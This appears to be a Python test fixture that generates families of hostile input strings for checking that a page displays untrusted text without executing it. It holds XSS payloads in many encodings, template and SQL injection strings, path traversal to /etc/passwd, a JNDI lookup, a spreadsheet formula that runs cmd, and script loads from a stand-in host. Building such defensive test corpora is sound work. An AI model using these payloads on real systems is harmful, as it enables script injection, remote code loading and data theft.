"""Texts that a page must show and never obey, in families. Each script, if it ran, would set `window.pwned`; each
request would go to a host that does not exist."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
AWAY = "http://outside.invalid/x"

_TAGS = ("script", "SCRIPT", "img", "svg", "math", "iframe", "object", "embed", "video", "style", "link")
_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin")
_BEARERS = ("img", "body", "details open", "input autofocus", "video", "a tabindex=0")
_QUOTES = ('"', "'", "`", "")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "//outside.invalid/")
_BIDI = "\u202e\u202d\u202a\u2066\u2067\u2068\u200f\u200e\u061c"
_ZERO = "\u200b\u200c\u200d\u2060\ufeff\u180e\u00ad"


def families() -> dict[str, list[str]]:
    """Name of the family -> its texts."""
    return {
        "tags": [f"<{tag}>{RUN}</{tag}>" for tag in _TAGS] + [f"<{tag} src={AWAY}>" for tag in _TAGS],
        "attributes": [
            f"<{tag} src=x {event}={quote}{RUN}{quote}>" for tag, event, quote in product(_BEARERS, _EVENTS, _QUOTES)
        ],
        "broken out of": [
            f"{close}><script>{RUN}</script>"
            for close in ('"', "'", "'\"", "</textarea", "</title", "</style", "</script", "-->", "]]>", "</template")
        ]
        + [f'" {event}={RUN} autofocus x="' for event in _EVENTS]
        + [f"' {event}={RUN} autofocus x='" for event in _EVENTS],
        "urls": [f'<a href="{scheme}{RUN}">x</a>' for scheme in _SCHEMES]
        + [f'<form action="{scheme}{RUN}"><button>x</button></form>' for scheme in _SCHEMES]
        + [f'<iframe src="{scheme}{RUN}"></iframe>' for scheme in _SCHEMES],
        "svg": [f"<svg {event}={RUN}>" for event in _EVENTS]
        + [f"<svg><animate {event}={RUN} attributeName=x dur=1s>" for event in _EVENTS]
        + [
            f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
            f"<svg><script>{RUN}</script></svg>",
        ]
        + [f"<svg><image href='{AWAY}'/></svg>", f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>"],
        "mathml": [f"<math><mtext><{tag} onload={RUN} src={AWAY}></mtext></math>" for tag in _TAGS]
        + [f'<math href="{scheme}{RUN}">x</math>' for scheme in _SCHEMES],
        "css": [
            text
            for place in (AWAY, f"data:text/css,@import url({AWAY})")
            for text in (
                f"<style>@import url({place});</style>",
                f'<link rel=stylesheet href="{place}">',
                f'<p style="background:url({place})">x</p>',
                f"<style>*{{background:url({place})}}</style>",
                f'<p style="position:fixed;inset:0;z-index:9999;background:url({place})">over everything</p>',
            )
        ],
        "templates": [
            f"{open_}{inner}{close}"
            for open_, close in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("<%=", "%>"), ("#{", "}"), ("[[", "]]"))
            for inner in ("7*7", "constructor.constructor('window.pwned=1')()", "config", "''.__class__.__mro__")
        ],
        "markdown": [f"[x]({scheme}{RUN})" for scheme in _SCHEMES]
        + [f"![x]({AWAY})", f"<{AWAY}>", f"[x]: {AWAY}\n[x]", f"```\n</code></pre><script>{RUN}</script>\n```"]
        + [f"| a |\n|---|\n| <img src={AWAY} onerror={RUN}> |", f"- <script>{RUN}</script>", f"# <svg onload={RUN}>"],
        "bidi": [f"good {mark}answer<script>{RUN}</script>" for mark in _BIDI]
        + [f"{mark}{'abc' * 5}\u202c" for mark in _BIDI],
        "zero width": [f"<{mark}script>{RUN}</script{mark}>" for mark in _ZERO] + [mark * 200 for mark in _ZERO],
        "combining": ["a" + mark * 500 for mark in ("\u0300", "\u0489", "\u20dd", "\u0e47", "\u1ab0")]
        + ["\u0628" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 100, "\ufdfd" * 50, "\u1242\u135f" * 100],
        "huge": [
            *("a" * 1_000_000, "word " * 20_000, "<b>" * 20_000, "\n" * 20_000, f"<script>{RUN}</script>" * 500),
            *("(" * 50_000, "\u6f22" * 20_000),
        ],
        "control characters": [
            f"a{chr(n)}b<img src=x onerror={RUN}>" for n in [*range(1, 9), 11, 12, *range(14, 32), 127]
        ]
        + [f"a{chr(n)}b" for n in (0x85, 0x2028, 0x2029, 0xFFFD, 0xFFFE, 0xFFFF, 0x1F_FFF, 0xE0001)],
        "encodings": [
            f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
            f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
            f"%3Cscript%3E{RUN}%3C/script%3E",
            f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
            f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
            f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
            f"\u2039script\u203a{RUN}\u2039/script\u203a",
        ]
        + [f"{chr(0x1D400 + n)}<script>{RUN}</script>" for n in range(20)],
        "entities": [
            text.format(run=RUN)
            for text in (
                "&lt;script&gt;{run}&lt;/script&gt;",
                "&#60;script&#62;{run}&#60;/script&#62;",
                "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
                "&amp;lt;script&amp;gt;{run}",
                "<a href='&#106;avascript:{run}'>x</a>",
                "<a href='java&Tab;script:{run}'>x</a>",
                "<img src=x onerror='&#119;indow.pwned=1'>",
                "&colon;&lpar;&NewLine;<script>{run}</script>",
                "&lt;img src=x onerror={run}&gt;",
            )
        ],
        "json and paths": [
            "</script><!--",
            '{"__proto__": {"pwned": 1}}',
            "'); DROP TABLE judgment; --",
            "../../../../etc/passwd",
            "%00",
            "${jndi:ldap://outside.invalid/x}",
            '=HYPERLINK("http://outside.invalid")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ],
        "scripts and their ends": [
            f"<script{space}src={quote}{AWAY}{quote}{end}"
            for space, quote, end in product((" ", "/", "\n"), _QUOTES, ("></script>", "/>", "//", ""))
        ],
    }
